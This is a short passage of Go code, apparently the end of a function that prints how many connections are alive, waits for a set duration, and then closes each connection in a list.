	fmt.Printf("hold alive=%d\n", alive)
	time.Sleep(d)
	for _, c := range conns {
		c.Close()
	}
}
